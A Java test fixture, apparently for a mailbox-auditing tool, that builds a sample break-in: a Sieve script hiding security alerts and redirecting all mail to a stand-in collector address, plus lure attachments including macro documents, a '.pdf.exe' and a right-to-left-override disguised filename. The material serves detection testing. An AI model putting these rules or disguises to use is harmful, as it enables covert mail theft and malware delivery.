package org.inboxaudit.sample;

import static org.inboxaudit.sample.Correspondence.SEEN;

import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import org.inboxaudit.audit.Audit.Declared;
import org.inboxaudit.evidence.EmailAddress;
import org.inboxaudit.extract.attachment.SampleFiles;
import org.inboxaudit.risk.Verdict;

/// A mailbox that somebody broke into on 11 May 2026: three years of everyday mail, and the traces.
final class CompromisedMailbox {
  /// Where the redirect goes; nobody ever wrote there.
  static final String DROP = "collector@post-relay.example";

  static final String HIDING_PLACE = "RSS Feeds";

  private static final Instant BREAK_IN = Instant.parse("2026-05-11T02:40:00Z");
  private static final Instant LAST = Instant.parse("2026-05-29T10:00:00Z");

  /// What Roundcube would have written: one rule hides, the other hands everything on.
  private static final String SCRIPT =
      """
      require ["fileinto", "imap4flags"];
      # rule:[.]
      if header :contains "subject" ["security", "password", "sign-in", "verification", "alert"]
      {
        addflag "\\\\Seen";
        fileinto "%s";
        stop;
      }
      # rule:[..]
      if true
      {
        redirect "%s";
        stop;
      }
      """
          .formatted(HIDING_PLACE, DROP)
          .replace("\n", "\r\n");

  private static final String OLD_SCRIPT =
      """
      require ["vacation"];
      vacation :days 7 "I am away until Monday.";
      """
          .replace("\n", "\r\n");

  private static final List<String> CHECKS =
      List.of(
          "attachment-active-content",
          "attachment-disguised-name",
          "attachment-macro",
          "attachment-runs-on-open",
          "exposure-accounts",
          "exposure-files",
          "exposure-history",
          "exposure-people",
          "exposure-sensitive",
          "message-foreign-client",
          "rule-external-forward",
          "rule-hide-away",
          "rule-odd-name",
          "rule-silenced-warnings",
          "signin-account-change",
          "signin-hidden-notice",
          "signin-notice");

  private final Correspondence mail =
      new Correspondence(MountainSchool.owner("coordinator"), ZoneOffset.ofHoursMinutes(5, 30), 41);

  private CompromisedMailbox() {}

  static SampleMailbox create() {
    return new CompromisedMailbox().write();
  }

  private SampleMailbox write() {
    List<Person> people = MountainSchool.correspondents();
    mail.converse(people.subList(0, 20), Instant.parse("2023-04-01T03:00:00Z"), LAST, 3);
    mail.converse(people.subList(20, 24), Instant.parse("2025-02-01T03:00:00Z"), LAST, 1);
    lures(people);
    providerLetters();
    sentByTheIntruder(people);
    resets();
    return new SampleMailbox(
        "compromised",
        EmailAddress.of(mail.owner().address()),
        Verdict.Level.ACT,
        new TreeSet<>(CHECKS),
        mail.messages(),
        new TreeMap<>(Map.of("managesieve", SCRIPT, "holiday", OLD_SCRIPT)),
        Optional.of("managesieve"),
        Declared.NOTHING);
  }

  private void lures(List<Person> people) {
    Person stranger = new Person("Conference Secretariat", "secretariat@world-forum.example");
    Instant at = BREAK_IN.minus(Duration.ofDays(6));
    lure(
        stranger,
        at,
        "Invitation and programme",
        "programme.doc",
        "application/msword",
        SampleFiles.rtfWithEquationObject());
    lure(
        stranger,
        at.plus(Duration.ofHours(20)),
        "Visa form",
        "visa-form.docm",
        "application/vnd.ms-word.document.macroEnabled.12",
        SampleFiles.macroDocument());
    lure(
        stranger,
        at.plus(Duration.ofHours(44)),
        "List of participants",
        "participants.pdf.exe",
        "application/octet-stream",
        SampleFiles.program());
    lure(
        stranger,
        at.plus(Duration.ofHours(50)),
        "Hotel",
        "hotel\u202Efdp.scr",
        "application/octet-stream",
        SampleFiles.program());
    lure(
        people.get(4),
        at.minus(Duration.ofDays(90)),
        "Signed agreement",
        "agreement.pdf",
        "application/pdf",
        SampleFiles.plainPdf());
    lure(
        people.get(3),
        at.minus(Duration.ofDays(60)),
        "Chapter two",
        "chapter-two.docx",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        SampleFiles.plainDocx());
  }

  private void lure(
      Person from, Instant at, String subject, String file, String mediaType, byte[] bytes) {
    mail.add(
        "INBOX",
        SEEN,
        at,
        mail.received(from, at, "<" + mail.id() + "@" + from.domain() + ">")
            .subject(subject)
            .text("Please find the file attached.")
            .attach(file, mediaType, bytes));
  }

  /// The owner's own letters are where they came in. The others they never saw: two were thrown
  /// away, one was filed out of sight.
  private void providerLetters() {
    for (int i = 0; i < 4; i++) {
      Instant own = Instant.parse("2024-01-09T04:30:00Z").plus(Duration.ofDays(150L * i));
      mail.add(
          "INBOX",
          SEEN,
          own,
          ProviderLetters.newSignIn(mail, own, "Android", "Kangra, Himachal Pradesh, India"));
    }
    Instant signIn = BREAK_IN.plus(Duration.ofMinutes(2));
    mail.add(
        "Trash",
        SEEN,
        signIn,
        ProviderLetters.newSignIn(mail, signIn, "Linux", "Lisbon, Portugal"));
    Instant password = BREAK_IN.plus(Duration.ofMinutes(31));
    mail.add("Trash", SEEN, password, ProviderLetters.appPasswordCreated(mail, password));
    Instant later = BREAK_IN.plus(Duration.ofDays(9));
    mail.add(
        HIDING_PLACE,
        SEEN,
        later,
        ProviderLetters.newSignIn(mail, later, "Linux", "Lisbon, Portugal"));
  }

  private void sentByTheIntruder(List<Person> people) {
    for (int i = 0; i < 3; i++) {
      Instant at = BREAK_IN.plus(Duration.ofDays(3 + 4L * i)).plus(Duration.ofMinutes(17L * i));
      MailText letter =
          new MailText()
              .date(at.atOffset(ZoneOffset.ofHours(-3)))
              .from(mail.owner())
              .to(people.get(3 + i))
              .subject("Please look at this")
              .header("X-Mailer", "Quickpost 7.2.25")
              .header("Message-ID", "<20260511" + (100 + i) + "$7a3c01@WORKSTATION>")
              .text("I have put the list together. Please look at it today.");
      mail.add("Sent", SEEN, at, letter);
    }
  }

  /// What else could be taken over through this mailbox.
  private void resets() {
    List<Person> services =
        List.of(
            new Person("Photo Album", "no-reply@photo-album.example"),
            new Person("Shop", "service@book-shop.example"),
            new Person("Web Host", "support@web-host.example"),
            new Person("Messenger", "security@messenger.example"));
    Instant at = Instant.parse("2024-09-03T08:00:00Z");
    for (Person service : services) {
      mail.add("INBOX", SEEN, at, ProviderLetters.passwordReset(mail, at, service));
      at = at.plus(Duration.ofDays(130));
    }
    Instant unasked = BREAK_IN.plus(Duration.ofHours(3));
    mail.add(
        "INBOX",
        Set.of(),
        unasked,
        ProviderLetters.passwordReset(mail, unasked, services.getLast()));
  }
}
